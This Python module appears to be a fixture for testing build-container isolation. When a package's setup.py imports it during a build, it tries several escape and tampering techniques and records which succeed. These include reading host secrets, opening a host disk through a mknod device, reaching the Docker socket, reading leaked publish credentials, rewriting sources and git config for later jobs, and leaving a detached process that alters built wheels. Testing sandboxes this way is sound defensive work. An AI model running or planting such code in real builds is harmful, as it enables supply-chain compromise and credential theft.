"""Attacks whatever builds it: tries each way out of the container that the settings of a build must close; the wheel
records which of them worked.

The demo project's own setup.py imports it, as root, in the containers that make the sdist and the wheel. `{secret}` and
`{listener}` stand for a file of the host and a port on which the host listens.
"""

import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

SECRET, LISTENER, MARK = Path("{secret}"), int("{listener}"), "{mark}"
RELEASE = SECRET.parent / "project/build/release"


def reads(path: Path | str) -> bool:
    return MARK in Path(path).read_text(errors="replace")


def writes(path: Path | str) -> bool:
    Path(path).write_text(MARK)
    return True


def connects(family: int, address: object) -> bool:
    with socket.socket(family) as tried:
        tried.settimeout(2)
        tried.connect(address)  # type: ignore[arg-type]
        return True


def reads_a_disk() -> bool:
    """Reads the host's first disk through a device file of its own."""
    major, minor, _, name = Path("/proc/partitions").read_text().splitlines()[2].split()
    node = Path("/tmp") / name
    if not node.exists():
        os.mknod(node, 0o060600, os.makedev(int(major), int(minor)))
    return bool(node.open("rb").read(512))


def mounts() -> bool:
    folder = Path("/tmp/mounted")
    folder.mkdir(exist_ok=True)
    command = ["mount", "-t", "tmpfs", "none", str(folder)]
    return subprocess.run(command, capture_output=True).returncode == 0


def sees_variable(name: str) -> bool:
    return name in os.environ


ATTEMPTS: dict[str, Callable[[], bool]] = {
    "the host's disk at /host": lambda: reads(f"/host{SECRET}"),
    "the host's file by its own path": lambda: reads(SECRET),
    "writing to the host's disk": lambda: writes(f"/host{SECRET.parent}/written-by-the-build"),
    "writing beside the secret": lambda: writes(f"{SECRET.parent}/written-by-the-build"),
    "a disk's device": reads_a_disk,
    "mounting": mounts,
    "the engine's socket": lambda: connects(socket.AF_UNIX, "/var/run/docker.sock"),
    "the host's port by loopback": lambda: connects(socket.AF_INET, ("127.0.0.1", LISTENER)),
    "a name server": lambda: bool(socket.getaddrinfo("pypi.org", 443)),
    "the internet": lambda: connects(socket.AF_INET, ("1.1.1.1", 443)),
    "the shell's variables": lambda: sees_variable("HOSTILE_SETTING"),
    "the shell's settings for cibuildwheel": lambda: sees_variable("HOSTILE_CIBW"),
    "a password of the shell": lambda: sees_variable("TWINE_PASSWORD"),
    "another job's workspace": lambda: (RELEASE / "work").exists(),
    "the record": lambda: writes(RELEASE / "release.json"),
    "the sources, for later jobs": lambda: writes("/source/setup.py"),
    "the history, for later jobs": lambda: writes("/source/.git/config"),
}


def tried() -> dict[str, str]:
    """Returns the result of each attempt."""
    found = {}
    for name, attempt in ATTEMPTS.items():
        try:
            found[name] = "through" if attempt() else "refused"
        except BaseException as error:
            found[name] = f"refused ({type(error).__name__})"
    return found


def leave_a_process() -> None:
    """Starts a process that outlives the build and changes the build's results."""
    places = ["/out/*", "/output/*", "/tmp/**/*.whl", f"/host{RELEASE}/**/*.whl"]
    script = f"""
import glob, time
for _ in range(60):
    time.sleep(1)
    for place in {places}:
        for file in glob.glob(place, recursive=True):
            if time.time() - {time.time()} > 15:
                open(file, "ab").write(b"late")
"""
    words = ["setsid", sys.executable, "-c", script]
    subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
